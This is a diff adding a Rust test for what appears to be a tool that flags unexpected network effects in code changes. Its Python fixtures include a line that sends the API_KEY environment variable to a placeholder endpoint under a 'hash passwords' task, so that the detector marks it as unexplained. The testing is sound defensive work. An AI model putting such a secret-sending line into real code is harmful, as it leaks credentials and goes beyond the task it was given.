@@ -170,3 +170,47 @@ fn the_loudest_of_two_ways_to_one_place_is_said() {
             .any(|related| related.place.path.as_str() == "a/user.js")
     );
 }
+
+#[test]
+fn what_a_helper_does_already_is_usual_for_a_new_caller() {
+    let helper = "import requests\n\ndef send(data):\n    requests.post('https://api.example/x', data=data, timeout=5)\n";
+    let plain = "from helper import send\n\nsend(open('report.txt').read())\n";
+    let around = Memory::of(&[("helper.py", helper)]);
+    let said = judge(
+        &with_task(
+            change(&[("user.py", Some(""), Some(plain))]),
+            "hash passwords",
+        ),
+        &around,
+    );
+    let network: Vec<_> = said
+        .delta
+        .delta
+        .added
+        .iter()
+        .filter(|e| e.effect.kind.as_str() == "network")
+        .map(|e| (e.place.path.as_str(), e.effect.asked.verdict.as_str()))
+        .collect();
+    assert!(
+        network.iter().all(|(_, asked)| *asked == "usual"),
+        "{network:?}"
+    );
+    // Secrets that begin to flow there are another matter.
+    let secret = "import os\nfrom helper import send\n\nsend(os.environ['API_KEY'])\n";
+    let said = judge(
+        &with_task(
+            change(&[("user.py", Some(""), Some(secret))]),
+            "hash passwords",
+        ),
+        &around,
+    );
+    let asked: Vec<_> = said
+        .delta
+        .delta
+        .added
+        .iter()
+        .filter(|e| e.effect.kind.as_str() == "network")
+        .map(|e| e.effect.asked.verdict.as_str())
+        .collect();
+    assert_eq!(asked, ["unexplained"]);
+}
